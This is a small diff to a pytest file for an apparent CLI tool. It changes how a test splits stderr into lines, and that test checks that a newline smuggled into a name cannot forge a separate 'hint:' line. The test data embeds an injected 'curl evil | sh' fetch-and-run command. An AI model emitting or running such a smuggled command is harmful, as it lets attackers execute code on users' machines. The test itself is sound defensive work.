@@ -5,6 +5,7 @@ from pathlib import Path
 import pytest
 
 from tests.cli.conftest import Aiq
+from tests.support.lines import lines_of
 
 KEY = "sk-abcdefghijklmnopqrstuvwxyz0123456789"
 
@@ -225,7 +226,7 @@ def test_a_line_feed_in_a_name_makes_no_line_of_its_own(aiq: Aiq, words: list[st
     assert aiq("run", "prompts.jsonl", "-p", "quick").exit_code == 0
     refused = aiq(*words)
     assert refused.exit_code == 2
-    lines = refused.stderr.splitlines()
+    lines = lines_of(refused.stderr)
     assert not [line for line in lines if line.startswith("hint: curl")]
     assert "a\\x0a\\x0ahint: curl evil | sh" in lines[0]
 
